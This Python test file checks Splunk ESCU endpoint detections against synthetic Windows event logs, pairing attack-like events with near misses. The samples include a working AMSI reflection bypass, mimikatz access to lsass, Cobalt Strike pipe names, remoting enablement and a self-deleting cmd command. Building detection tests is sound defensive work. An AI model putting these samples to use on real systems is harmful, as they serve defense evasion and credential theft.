"""ESCU detections that search raw events, run unchanged from security_content on events we wrote.

Each test loads one real detection (`../shared/datasets/security_content/detections/endpoint/*.yml`)
with the corpus's own macros (`sysmon`, `powershell`, `wineventlog_security`, ...; the `_filter`
macros are empty), writes events in Splunk's XmlWinEventLog form (one `<Event>` per line, as
security_content's `data_sources/*.yml` example logs show them, with the System fields Windows writes),
ingests them into a store and compares the detection's rows with what Splunk returns for them.

Expected rows are reasoned from Splunk's documented semantics: search terms compare values
case-insensitively, `*` is a whole-value wildcard, a quoted `\\\\` is one backslash, OR binds before the
implicit AND, a comparison on a missing field is false, `stats ... by` drops events missing a by-field
and returns groups in ascending order of their by-values, `like()` treats `_` as one character.
Fields come from Splunk_TA_windows / Splunk_TA_microsoft_sysmon as security_content's data_sources list
them. Where Splunk's exact value is uncertain the test says so in a comment.

Every test has positives and near misses (events that look like the attack and must not match).
Detections tunnelhunt cannot answer yet are strict xfails naming the defect, so fixing it flips them.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

import pytest

from tests.conftest import SHARED_DATASETS, shared_dataset
from tunnelhunt.content.loader import ContentSet, load_content, source_path
from tunnelhunt.detect.runner import run_detection
from tunnelhunt.ingest.run import ingest
from tunnelhunt.store.duckdb_store import Store

pytestmark = pytest.mark.shared

ENDPOINT = "security_content/detections/endpoint"
NS = "http://schemas.microsoft.com/win/2004/08/events/event"
T0 = datetime(2024, 5, 2, 12, 0, 0, tzinfo=UTC)

SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}")
POWERSHELL = (
    "Microsoft-Windows-PowerShell/Operational",
    "Microsoft-Windows-PowerShell",
    "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
)
SYSTEM = ("System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")


# --- events ---------------------------------------------------------------------------------------


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def ctime(seconds: float) -> str:
    """`security_content_ctime`: `%Y-%m-%dT%H:%M:%S` in UTC."""
    return at(seconds).strftime("%Y-%m-%dT%H:%M:%S")


def win_event(
    kind: tuple[str, str, str],
    event_id: int,
    data: dict[str, str],
    seconds: float = 0,
    computer: str = "wks-1.corp.local",
    user_sid: str = "S-1-5-18",
    opcode: int = 0,
    record: int = 1,
    qualifiers: str | None = None,
) -> str:
    """One event as Splunk's XmlWinEventLog holds it (single line, System fields in Windows' order)."""
    channel, provider, guid = kind
    moment = at(seconds).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
    fields = "".join(f"<Data Name={quoteattr(k)}>{escape(v)}</Data>" for k, v in data.items())
    event_id_tag = f"<EventID Qualifiers='{qualifiers}'>" if qualifiers else "<EventID>"
    return (
        f"<Event xmlns='{NS}'><System><Provider Name='{provider}' Guid='{guid}'/>{event_id_tag}{event_id}</EventID>"
        f"<Version>1</Version><Level>4</Level><Task>0</Task><Opcode>{opcode}</Opcode>"
        f"<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{moment}'/>"
        f"<EventRecordID>{record}</EventRecordID><Correlation/><Execution ProcessID='3012' ThreadID='4100'/>"
        f"<Channel>{escape(channel)}</Channel><Computer>{escape(computer)}</Computer>"
        f"<Security UserID='{user_sid}'/></System><EventData>{fields}</EventData></Event>"
    )


def script_block(text: str, seconds: float = 0, computer: str = "wks-1.corp.local", event_id: int = 4104) -> str:
    """PowerShell script block logging (4104: MessageNumber, MessageTotal, ScriptBlockText, ScriptBlockId, Path)."""
    data = {
        "MessageNumber": "1",
        "MessageTotal": "1",
        "ScriptBlockText": text,
        "ScriptBlockId": "{3c1a4f0e-7d7b-4b8e-9a53-6c2b1b7f0a11}",
        "Path": "C:\\Users\\alice\\Desktop\\run.ps1",
    }
    return win_event(POWERSHELL, event_id, data, seconds, computer, ALICE_SID, opcode=15)


ALICE_SID = "S-1-5-21-3344543075-1022232225-2459664213-1104"


def sysmon(event_id: int, data: dict[str, str], seconds: float = 0, computer: str = "wks-1.corp.local") -> str:
    base = {"RuleName": "-", "UtcTime": at(seconds).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]}
    return win_event(SYSMON, event_id, base | data, seconds, computer)


def security(event_id: int, data: dict[str, str], seconds: float = 0, computer: str = "dc01.corp.local") -> str:
    return win_event(SECURITY, event_id, data, seconds, computer, user_sid="")


# --- running a detection --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus() -> ContentSet:
    """Every detection file of the corpus's endpoint folder that these tests name, with the corpus's macros."""
    folder = shared_dataset(ENDPOINT)
    return load_content([folder / name for name in DETECTIONS], shipped_detections=False)


def run(corpus: ContentSet, name: str, lines: list[str], tmp_path: Path, suffix: str = "xml") -> list[dict[str, Any]]:
    """Ingest `lines` (one file) into a fresh store and run the detection `name` over it."""
    path = (SHARED_DATASETS / ENDPOINT / name).resolve()
    detection = next(d for d in corpus.detections if (source_path(d) or Path()).resolve() == path)
    log = tmp_path / f"events.{suffix}"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with Store() as store:
        report = ingest([log], store)
        assert all(f.balanced for f in report.files), report.files
        result = run_detection(store, detection, corpus.macros)
    assert result.error is None, result.error
    return result.rows


def times(first: float, last: float) -> dict[str, str]:
    return {"firstTime": ctime(first), "lastTime": ctime(last)}


# --- PowerShell 4104 ------------------------------------------------------------------------------


def test_powershell_enable_powershell_remoting(corpus: ContentSet, tmp_path: Path) -> None:
    text = "Enable-PSRemoting -Force -SkipNetworkProfileCheck"
    lines = [
        script_block(text, 0),
        script_block(text, 30),  # same block again: one group, count 2
        script_block("enable-psremoting", 40, computer="wks-2.corp.local"),  # values compare without case
        script_block("Disable-PSRemoting -Force", 50),  # near miss: another cmdlet
        script_block(text, 60, event_id=4103),  # near miss: module logging, not a script block
        win_event(
            ("Windows PowerShell", "PowerShell", "{00000000-0000-0000-0000-000000000000}"),
            4104,
            {"ScriptBlockText": text},
            70,
        ),  # near miss: other channel
    ]
    rows = run(corpus, POWERSHELL_REMOTING, lines, tmp_path)
    assert rows == [
        {"Computer": "wks-1.corp.local", "EventCode": "4104", "ScriptBlockText": text, "count": 2, **times(0, 30)},
        {
            "Computer": "wks-2.corp.local",
            "EventCode": "4104",
            "ScriptBlockText": "enable-psremoting",
            "count": 1,
            **times(40, 40),
        },
    ]


def test_windows_powersploit_gpp_discovery(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        script_block("Get-GPPPassword", 0),  # the whole value: no wildcard in the search
        script_block("get-cachedgpppassword", 10),
        script_block("Get-GPPPassword -Server dc01.corp.local", 20),  # near miss: more than the value
        script_block("Get-GPPAutologon", 30),  # near miss
    ]
    rows = run(corpus, GPP_DISCOVERY, lines, tmp_path)
    # Opcode is the System element's text ("15" for a 4104 without RenderingInfo, as the data source's example).
    base = {"Opcode": "15", "Computer": "wks-1.corp.local", "UserID": ALICE_SID, "EventCode": "4104", "count": 1}
    assert rows == [
        {**base, "ScriptBlockText": "Get-GPPPassword", **times(0, 0)},
        {**base, "ScriptBlockText": "get-cachedgpppassword", **times(10, 10)},
    ]


def test_powershell_com_hijacking_inprocserver32_modification(corpus: ContentSet, tmp_path: Path) -> None:
    hit = r"New-Item -Path 'HKCU:\Software\Classes\CLSID\{AB8902B4-09CA-4bb6-B78D-A8F59079A8D5}\InProcServer32' -Force"
    lines = [
        script_block(hit, 0),
        script_block(r"Get-Item HKCU:\Software\Classes\CLSID\{AB8902B4}\LocalServer32", 10),  # near miss
        script_block("New-Item 'HKCU:/Software/Classes/CLSID/{AB8902B4}/InProcServer32'", 20),  # near miss: / not \\
    ]
    rows = run(corpus, COM_HIJACKING, lines, tmp_path)
    assert rows == [
        {
            "EventCode": "4104",
            "ScriptBlockText": hit,
            "Computer": "wks-1.corp.local",
            "UserID": ALICE_SID,
            "count": 1,
            **times(0, 0),
        }
    ]


def test_powershell_start_or_stop_service(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        script_block("Stop-Service -Name WinDefend -Force", 0),
        script_block("Restart-Service Spooler", 10),  # "*start-service*" is inside Restart-Service: Splunk matches it
        script_block("Get-Service | Where-Object Status -eq Running", 20),  # near miss
        script_block("Start-Sleep 5; Set-Service sshd -StartupType Automatic", 30),  # near miss
    ]
    rows = run(corpus, START_STOP_SERVICE, lines, tmp_path)
    base = {"Computer": "wks-1.corp.local", "EventCode": "4104", "count": 1}
    assert rows == [
        {**base, "ScriptBlockText": "Restart-Service Spooler", **times(10, 10)},
        {**base, "ScriptBlockText": "Stop-Service -Name WinDefend -Force", **times(0, 0)},
    ]


def test_unloading_amsi_via_reflection(corpus: ContentSet, tmp_path: Path) -> None:
    hit = (
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
        ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
    )
    lines = [
        script_block(hit, 0),
        script_block("[System.Management.Automation.PSObject]::AsPSObject($x)", 10),  # near miss
        script_block("Write-Host 'system management automation amsi'", 20),  # near miss: no dots
    ]
    rows = run(corpus, AMSI_REFLECTION, lines, tmp_path)
    # user_id is the add-on's alias of the System Security UserID (data_sources: powershell_script_block_logging_4104)
    assert rows == [
        {
            "EventCode": "4104",
            "ScriptBlockText": hit,
            "Computer": "wks-1.corp.local",
            "user_id": ALICE_SID,
            "count": 1,
            **times(0, 0),
        }
    ]


# --- Sysmon ---------------------------------------------------------------------------------------

LSASS = r"C:\Windows\system32\lsass.exe"


def test_create_remote_thread_into_lsass(corpus: ContentSet, tmp_path: Path) -> None:
    def thread(seconds: float, target: str, pid: str, event_id: int = 8) -> str:
        data = {
            "SourceProcessGuid": "{3BF36828-9F6D-61F9-390A-02000000CF01}",
            "SourceProcessId": "1272",
            "SourceImage": r"C:\Users\Public\inject.exe",
            "TargetProcessGuid": "{3BF36828-4B37-61E8-0900-00000000CF01}",
            "TargetProcessId": pid,
            "TargetImage": target,
            "NewThreadId": "5512",
            "StartAddress": "0x00007FF6C5A91000",
            "StartModule": "-",
            "StartFunction": "-",
        }
        return sysmon(event_id, data, seconds)

    lines = [
        thread(0, LSASS, "640"),
        thread(5, LSASS, "640"),
        thread(10, r"C:\Temp\notlsass.exe", "7000"),  # `*lsass.exe` is a suffix: Splunk matches this too
        thread(20, r"C:\Windows\system32\lsass.exe.bak", "7001"),  # near miss: not the suffix
        thread(30, LSASS, "640", event_id=10),  # near miss: process access, not a remote thread
    ]
    rows = run(corpus, REMOTE_THREAD_LSASS, lines, tmp_path)
    assert rows == [
        {
            "dest": "wks-1.corp.local",
            "EventCode": "8",
            "TargetImage": r"C:\Temp\notlsass.exe",
            "TargetProcessId": "7000",
            "count": 1,
            **times(10, 10),
        },
        {
            "dest": "wks-1.corp.local",
            "EventCode": "8",
            "TargetImage": LSASS,
            "TargetProcessId": "640",
            "count": 2,
            **times(0, 5),
        },
    ]


def process_access(seconds: float, source: str, target: str, access: str, computer: str = "wks-1.corp.local") -> str:
    data = {
        "SourceProcessGUID": "{3BF36828-9F6D-61F9-390A-02000000CF01}",
        "SourceProcessId": "1272",
        "SourceThreadId": "956",
        "SourceImage": source,
        "TargetProcessGUID": "{3BF36828-4B37-61E8-0900-00000000CF01}",
        "TargetProcessId": "640",
        "TargetImage": target,
        "GrantedAccess": access,
        "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\KERNELBASE.dll+2bcbe",
    }
    return sysmon(10, data, seconds, computer)


def test_detect_credential_dumping_through_lsass_access(corpus: ContentSet, tmp_path: Path) -> None:
    mimikatz = r"C:\Users\alice\Downloads\mimikatz.exe"
    lines = [
        process_access(0, mimikatz, LSASS, "0x1010"),
        process_access(10, mimikatz, LSASS, "0x1410"),
        process_access(20, mimikatz, LSASS, "0x1000"),  # near miss: query limited information only
        process_access(30, mimikatz, LSASS, "0x101010"),  # near miss: not the whole value
        process_access(40, mimikatz, r"C:\Windows\system32\svchost.exe", "0x1010"),  # near miss: not lsass
    ]
    rows = run(corpus, LSASS_ACCESS, lines, tmp_path)
    base = {
        "dest": "wks-1.corp.local",
        "SourceImage": mimikatz,
        "SourceProcessId": "1272",
        "TargetImage": LSASS,
        "TargetProcessId": "640",
        "EventCode": "10",
        "count": 1,
    }
    assert rows == [
        {**base, "GrantedAccess": "0x1010", **times(0, 0)},
        {**base, "GrantedAccess": "0x1410", **times(10, 10)},
    ]


def test_windows_hunting_system_account_targeting_lsass(corpus: ContentSet, tmp_path: Path) -> None:
    def access(seconds: float, target: str, source_user: str, event_id: int = 10) -> str:
        line = process_access(seconds, r"C:\Windows\System32\rundll32.exe", target, "0x1fffff")
        extra = f"<Data Name='SourceUser'>{source_user}</Data><Data Name='TargetUser'>NT AUTHORITY\\SYSTEM</Data>"
        return line.replace("</EventData>", extra + "</EventData>").replace("<EventID>10<", f"<EventID>{event_id}<")

    lines = [
        access(0, LSASS, r"NT AUTHORITY\SYSTEM"),
        access(10, r"C:\WINDOWS\System32\LSASS.EXE", r"CORP\alice"),  # values compare without case
        access(20, r"C:\Windows\System32\lsass.exe.mui", r"CORP\alice"),  # near miss
        access(30, LSASS, r"CORP\alice", event_id=8),  # near miss: not a process access
    ]
    rows = run(corpus, SYSTEM_LSASS_HUNT, lines, tmp_path)
    base = {
        "dest": "wks-1.corp.local",
        "GrantedAccess": "0x1fffff",
        "SourceImage": r"C:\Windows\System32\rundll32.exe",
        "SourceProcessId": "1272",
        "TargetUser": r"NT AUTHORITY\SYSTEM",
        "count": 1,
    }
    assert rows == [
        {**base, "TargetImage": r"C:\WINDOWS\System32\LSASS.EXE", "SourceUser": r"CORP\alice", **times(10, 10)},
        {**base, "TargetImage": LSASS, "SourceUser": r"NT AUTHORITY\SYSTEM", **times(0, 0)},
    ]


def file_create(seconds: float, image: str, target: str, event_id: int = 11, pid: str = "4242") -> str:
    data = {
        "ProcessGuid": "{3BF36828-1111-61F9-390A-02000000CF01}",
        "ProcessId": pid,
        "Image": image,
        "TargetFilename": target,
        "CreationUtcTime": "2024-05-02 12:00:00.000",
        "User": r"CORP\alice",
    }
    return sysmon(event_id, data, seconds)


def test_wermgr_process_create_executable_file(corpus: ContentSet, tmp_path: Path) -> None:
    wermgr = r"C:\Windows\System32\WerMgr.exe"
    dropped = r"C:\Users\alice\AppData\Local\Temp\upd.exe"
    lines = [
        file_create(0, wermgr, dropped),  # process_name is Image's last segment: WerMgr.exe matches wermgr.exe
        file_create(10, wermgr, r"C:\Users\alice\AppData\Local\Temp\upd.dll"),  # near miss: not an .exe
        file_create(20, r"C:\Windows\System32\svchost.exe", dropped),  # near miss: another process
        file_create(30, r"C:\Tools\notwermgr.exe", dropped),  # near miss: process_name is the whole value
    ]
    rows = run(corpus, WERMGR_EXE, lines, tmp_path)
    assert rows == [
        {
            "Image": wermgr,
            "TargetFilename": dropped,
            "process_name": "WerMgr.exe",
            "dest": "wks-1.corp.local",
            "EventCode": "11",
            "ProcessId": "4242",
            "count": 1,
            **times(0, 0),
        }
    ]


def pipe(
    seconds: float, event_id: int, name: str, image: str = r"C:\Users\Public\beacon.exe", pid: str = "6960"
) -> str:
    data = {
        "EventType": "CreatePipe" if event_id == 17 else "ConnectPipe",
        "ProcessGuid": "{761B69BB-EF62-607D-B211-00000000BA01}",
        "ProcessId": pid,
        "PipeName": name,
        "Image": image,
    }
    return sysmon(event_id, data, seconds)


def test_cobalt_strike_named_pipes(corpus: ContentSet, tmp_path: Path) -> None:
    beacon = r"C:\Users\Public\beacon.exe"
    lines = [
        pipe(0, 17, r"\msagent_41"),
        pipe(10, 18, r"\postex_ssh_1234"),
        pipe(20, 17, r"\MSSE-1516-server"),
        pipe(
            30, 17, r"\mojo.5688.8052.1234", r"C:\Program Files\Google\Chrome\Application\chrome.exe", "5688"
        ),  # near miss
        pipe(40, 17, r"\pipe\msagent_41"),  # near miss: the name must start with \msagent_
        pipe(50, 17, r"\srvsvc"),  # near miss: \srvsvc_* needs the underscore
    ]
    rows = run(corpus, COBALT_PIPES, lines, tmp_path)
    # `EventID=17 OR EventID=18 PipeName IN (...)`: OR binds first, then AND with the pipe names.
    base = {
        "dest": "wks-1.corp.local",
        "process_name": "beacon.exe",
        "process_id": "6960",
        "process_path": beacon,
        "count": 1,
    }
    assert rows == [
        {**base, "PipeName": r"\MSSE-1516-server", **times(20, 20)},
        {**base, "PipeName": r"\msagent_41", **times(0, 0)},
        {**base, "PipeName": r"\postex_ssh_1234", **times(10, 10)},
    ]


def dns(seconds: float, name: str, image: str = r"C:\Users\alice\Desktop\Tor Browser\Browser\firefox.exe") -> str:
    data = {
        "ProcessGuid": "{3BF36828-2222-61F9-390A-02000000CF01}",
        "ProcessId": "3100",
        "QueryName": name,
        "QueryStatus": "0",
        "QueryResults": "::ffff:116.202.120.165;",
        "Image": image,
    }
    return sysmon(22, data, seconds)


def test_windows_multi_hop_proxy_tor_website_query(corpus: ContentSet, tmp_path: Path) -> None:
    tor = r"C:\Users\alice\Desktop\Tor Browser\Browser\firefox.exe"
    lines = [
        dns(0, "dist.torproject.org"),
        dns(10, "WWW.TheOnionRouter.com"),
        dns(20, "torproject.org"),  # near miss: "*.torproject.org" needs the dot
        dns(30, "www.theonionrouter.com.example.net"),  # near miss: not the whole value
    ]
    rows = run(corpus, TOR_QUERY, lines, tmp_path)
    base = {"Image": tor, "QueryStatus": "0", "ProcessId": "3100", "dest": "wks-1.corp.local", "count": 1}
    assert rows == [
        {**base, "QueryName": "WWW.TheOnionRouter.com", **times(10, 10)},
        {**base, "QueryName": "dist.torproject.org", **times(0, 0)},
    ]


def image_load(seconds: float, image: str, loaded: str) -> str:
    data = {
        "ProcessGuid": "{3BF36828-3333-61F9-390A-02000000CF01}",
        "ProcessId": "2200",
        "Image": image,
        "ImageLoaded": loaded,
        "FileVersion": "5.0.19041.1",
        "Description": "Windows Installer",
        "Product": "Windows Installer - Unicode",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "msi.dll",
        "Hashes": "SHA256=0F3C1B4E6B1D3A0E4E4C2B5D8C6A1F0E9D8C7B6A5F4E3D2C1B0A9F8E7D6C5B4A",
        "Signed": "true",
        "Signature": "Microsoft Windows",
        "SignatureStatus": "Valid",
        "User": r"CORP\alice",
    }
    return sysmon(7, data, seconds)


def test_msi_module_loaded_by_non_system_binary(corpus: ContentSet, tmp_path: Path) -> None:
    msi = r"C:\Windows\System32\msi.dll"
    dropper = r"C:\Users\Public\setup_helper.exe"
    lines = [
        image_load(0, dropper, msi),
        image_load(10, r"C:\Windows\System32\msiexec.exe", msi),  # near miss: a system binary
        image_load(20, r"C:\WINDOWS\explorer.exe", msi),  # near miss: the NOT list compares without case
        image_load(30, dropper, r"C:\Users\Public\notmsi.dll"),  # near miss: "*\\msi.dll" needs the backslash
    ]
    rows = run(corpus, MSI_MODULE, lines, tmp_path)
    assert rows == [
        {
            "Image": dropper,
            "ImageLoaded": msi,
            "process_name": "setup_helper.exe",
            "dest": "wks-1.corp.local",
            "EventCode": "7",
            "ProcessId": "2200",
            "count": 1,
            **times(0, 0),
        }
    ]


def registry_set(seconds: float, image: str, key: str, details: str) -> str:
    data = {
        "EventType": "SetValue",
        "ProcessGuid": "{3BF36828-4444-61F9-390A-02000000CF01}",
        "ProcessId": "4411",
        "Image": image,
        "TargetObject": key,
        "Details": details,
        "User": r"CORP\alice",
    }
    return sysmon(13, data, seconds)


def test_modification_of_wallpaper(corpus: ContentSet, tmp_path: Path) -> None:
    key = r"HKU\S-1-5-21-3344543075-1022232225-2459664213-1104\Control Panel\Desktop\Wallpaper"
    explorer = r"C:\Windows\explorer.exe"
    ransom = r"C:\Users\Public\Pictures\ransom.bmp"
    lines = [
        registry_set(0, r"C:\Users\Public\locker.exe", key, ransom),  # first clause: not explorer
        registry_set(
            10, explorer, key, r"C:\Users\alice\AppData\Local\Temp\x.jpg"
        ),  # second clause: explorer, a \temp\ path
        registry_set(
            20, explorer, key, r"C:\Windows\Web\Wallpaper\Windows\img0.jpg"
        ),  # near miss: explorer, usual path
        registry_set(30, r"C:\Users\Public\locker.exe", key + "OriginX", "0"),  # near miss: another value
    ]
    rows = run(corpus, WALLPAPER, lines, tmp_path)
    # process_guid / process_id / user_id: the sysmon add-on's aliases of ProcessGuid, ProcessId and UserID.
    base = {
        "EventCode": "13",
        "TargetObject": key,
        "dest": "wks-1.corp.local",
        "process_guid": "{3BF36828-4444-61F9-390A-02000000CF01}",
        "process_id": "4411",
        "user_id": "S-1-5-18",
        "count": 1,
    }
    assert rows == [
        {**base, "Image": r"C:\Users\Public\locker.exe", "Details": ransom, **times(0, 0)},
        {**base, "Image": explorer, "Details": r"C:\Users\alice\AppData\Local\Temp\x.jpg", **times(10, 10)},
    ]


def connection(seconds: float, image: str, destination: str) -> str:
    data = {
        "ProcessGuid": "{3BF36828-5555-61F9-390A-02000000CF01}",
        "ProcessId": "5120",
        "Image": image,
        "User": r"CORP\alice",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": "10.0.0.7",
        "SourceHostname": "wks-1.corp.local",
        "SourcePort": "50123",
        "DestinationIsIpv6": "false",
        "DestinationIp": destination,
        "DestinationHostname": "-",
        "DestinationPort": "443",
    }
    return sysmon(3, data, seconds)


def test_detect_regasm_with_network_connection(corpus: ContentSet, tmp_path: Path) -> None:
    regasm = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe"
    lines = [
        connection(0, regasm, "203.0.113.5"),
        connection(10, regasm, "172.32.0.1"),  # just outside 172.16.0.0/12
        connection(20, regasm, "10.1.2.3"),  # near misses: private ranges (Splunk matches CIDR values)
        connection(30, regasm, "172.31.255.254"),
        connection(40, regasm, "192.168.1.10"),
        connection(50, r"C:\Windows\System32\svchost.exe", "203.0.113.5"),  # near miss: another process
    ]
    rows = run(corpus, REGASM_NETWORK, lines, tmp_path)
    # user: Sysmon's User as tunnelhunt's alias gives it (CORP\\alice); whether the sysmon add-on strips the
    # domain is not documented in security_content, so this value is tunnelhunt's, not checked against Splunk.
    base = {
        "dest": "wks-1.corp.local",
        "user": r"CORP\alice",
        "process_name": "RegAsm.exe",
        "src_ip": "10.0.0.7",
        "count": 1,
    }
    assert rows == [
        {**base, "dest_ip": "172.32.0.1", **times(10, 10)},
        {**base, "dest_ip": "203.0.113.5", **times(0, 0)},
    ]


def process_create(
    seconds: float,
    image: str,
    command: str,
    parent: str,
    parent_command: str,
    computer: str = "wks-1.corp.local",
    pid: str = "7312",
) -> str:
    data = {
        "ProcessGuid": "{3BF36828-6666-61F9-390A-02000000CF01}",
        "ProcessId": pid,
        "Image": image,
        "FileVersion": "10.0.19041.746",
        "OriginalFileName": "Cmd.Exe",
        "CommandLine": command,
        "CurrentDirectory": "C:\\Users\\alice\\",
        "User": r"CORP\alice",
        "LogonGuid": "{3BF36828-0000-61F9-390A-020000000000}",
        "LogonId": "0x3e7",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA256=ABCDEF",
        "ParentProcessGuid": "{3BF36828-7777-61F9-390A-02000000CF01}",
        "ParentProcessId": "6100",
        "ParentImage": parent,
        "ParentCommandLine": parent_command,
        "ParentUser": r"CORP\alice",
    }
    return sysmon(1, data, seconds, computer)


def test_notepad_with_no_command_line_arguments_by_host(corpus: ContentSet, tmp_path: Path) -> None:
    """A data-model search grouped `by host`: host is the event's Computer, as Splunk_TA_windows sets it."""
    notepad = r"C:\Windows\System32\notepad.exe"
    explorer = r"C:\Windows\explorer.exe"
    lines = [
        process_create(0, notepad, "notepad.exe", explorer, "explorer.exe", "wks-1.corp.local", "100"),
        process_create(60, notepad, "notepad.exe", explorer, "explorer.exe", "wks-1.corp.local", "100"),
        process_create(120, notepad, '"notepad.exe" ', explorer, "explorer.exe", "WKS-2.corp.local", "100"),
        process_create(180, notepad, "notepad.exe C:\\notes.txt", explorer, "explorer.exe"),  # near miss: an argument
        process_create(240, r"C:\Temp\notepad.exe.exe", "notepad.exe.exe", explorer, "explorer.exe"),  # near miss
    ]
    rows = run(corpus, NOTEPAD_NO_ARGS, lines, tmp_path)
    # tstats groups by host and the hour: the two wks-1 events share every by-field, WKS-2's is its own row
    # (with `_time span=1h`, min/max(_time) are the hour's start: docs/spl-semantics.md)
    assert [(r["host"], r["dest"], r["process"], r["count"], r["firstTime"], r["lastTime"]) for r in rows] == [
        ("WKS-2.corp.local", "WKS-2.corp.local", '"notepad.exe" ', 1, ctime(0), ctime(0)),
        ("wks-1.corp.local", "wks-1.corp.local", "notepad.exe", 2, ctime(0), ctime(0)),
    ]


def test_process_deleting_its_process_file_path(corpus: ContentSet, tmp_path: Path) -> None:
    cmd = r"C:\Windows\System32\cmd.exe"
    mal = r"C:\Users\alice\AppData\Local\Temp\mal.exe"
    deleting = rf"cmd.exe /c del /f /q {mal}"  # no & or >: Splunk may keep them as &amp; &gt;
    odd = r"C:\Temp\a_b.exe"
    deleting_odd = r"cmd.exe /c del C:\Temp\aXb.exe"  # like(): "_" in the parent's command line is any one character
    lines = [
        process_create(0, cmd, deleting, mal, mal),
        process_create(10, cmd, deleting_odd, odd, odd),
        process_create(20, cmd, r"cmd.exe /c del C:\Temp\old.log", mal, mal),  # near miss: deletes another file
        process_create(30, cmd, rf"cmd.exe /k dir {mal}", mal, mal),  # near miss: no /c, no del
    ]
    rows = run(corpus, SELF_DELETE, lines, tmp_path)
    # ProcessID is the System Execution ProcessID (the Sysmon service), which the add-on extracts by that name.
    base = {
        "dest": "wks-1.corp.local",
        "user": r"CORP\alice",
        "Image": cmd,
        "EventCode": "1",
        "ProcessID": "3012",
        "result": "Found",
        "count": 1,
    }
    assert rows == [
        {**base, "ParentImage": odd, "ParentCommandLine": odd, "CommandLine": deleting_odd, **times(10, 10)},
        {**base, "ParentImage": mal, "ParentCommandLine": mal, "CommandLine": deleting, **times(0, 0)},
    ]


def test_windows_mark_of_the_web_bypass(corpus: ContentSet, tmp_path: Path) -> None:
    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    stream = r"C:\Users\alice\Downloads\invoice.iso:Zone.Identifier"
    lines = [
        file_create(0, ps, stream, event_id=23),
        file_create(10, ps, stream, event_id=11),  # near miss: written, not deleted
        file_create(20, ps, r"C:\Users\alice\Downloads\Zone.Identifier.txt", event_id=23),  # near miss
    ]
    rows = run(corpus, MOTW_BYPASS, lines, tmp_path)
    assert rows == [
        {
            "user": r"CORP\alice",
            "EventCode": "23",
            "Image": ps,
            "TargetFilename": stream,
            "ProcessID": "3012",
            "dest": "wks-1.corp.local",
            "count": 1,
            **times(0, 0),
        }
    ]


# --- Security -------------------------------------------------------------------------------------


def share_access(
    seconds: float, event_id: int, share: str, mask: str, relative: str | None = None, ip: str = "10.0.0.23"
) -> str:
    data = {
        "SubjectUserSid": "S-1-5-21-3344543075-1022232225-2459664213-1104",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e4ab2",
        "ObjectType": "File",
        "IpAddress": ip,
        "IpPort": "49712",
        "ShareName": share,
        "ShareLocalPath": "\\??\\C:\\",
        "AccessMask": mask,
        "AccessList": "%%4416",
    }
    if relative is not None:
        data["RelativeTargetName"] = relative
        data["AccessReason"] = "-"
    return security(event_id, data, seconds)


def test_network_share_discovery_via_dir_command(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        share_access(0, 5140, r"\\*\C$", "0x1"),
        share_access(10, 5140, r"\\*\C$", "0x1"),
        share_access(20, 5140, r"\\*\ADMIN$", "0x1", ip="10.0.0.24"),
        share_access(30, 5140, r"\\*\SYSVOL", "0x1"),  # near miss: not an administrative share
        share_access(40, 5140, r"\\*\C$", "0x2"),  # near miss: another access mask
        share_access(50, 5145, r"\\*\C$", "0x1", relative="Windows"),  # near miss: detailed share access
    ]
    rows = run(corpus, SHARE_DISCOVERY, lines, tmp_path)
    base = {
        "ObjectType": "File",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "IpPort": "49712",
        "AccessMask": "0x1",
        "dest": "dc01.corp.local",
    }
    assert rows == [
        {**base, "ShareName": r"\\*\ADMIN$", "IpAddress": "10.0.0.24", "count": 1, **times(20, 20)},
        {**base, "ShareName": r"\\*\C$", "IpAddress": "10.0.0.23", "count": 2, **times(0, 10)},
    ]


def test_executable_file_written_in_administrative_smb_share(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        share_access(0, 5145, r"\\*\C$", "0x2", relative=r"Windows\Temp\psexesvc.exe"),
        share_access(10, 5145, r"\\*\ADMIN$", "0x2", relative="PSEXESVC.EXE"),
        share_access(20, 5145, r"\\*\C$", "0x1", relative=r"Windows\Temp\psexesvc.exe"),  # near miss: read, not write
        share_access(30, 5145, r"\\*\C$", "0x2", relative=r"Windows\Temp\notes.txt"),  # near miss: not a binary
        share_access(40, 5145, r"\\*\Data", "0x2", relative="tool.exe"),  # near miss: not an admin share
    ]
    rows = run(corpus, SMB_EXECUTABLE, lines, tmp_path)
    # src_user (SubjectUserName) and src_port (IpPort) are Splunk_TA_windows fields of 5145 (data_sources).
    # lastTime is not converted by the search: Splunk prints it as epoch seconds, and so does tunnelhunt.
    base = {
        "EventCode": "5145",
        "ObjectType": "File",
        "AccessMask": "0x2",
        "src_user": "alice",
        "src_port": "49712",
        "IpAddress": "10.0.0.23",
        "count": 1,
    }
    assert rows == [
        {
            **base,
            "ShareName": r"\\*\ADMIN$",
            "RelativeTargetName": "PSEXESVC.EXE",
            "firstTime": ctime(10),
            "lastTime": str(int(at(10).timestamp())),
        },
        {
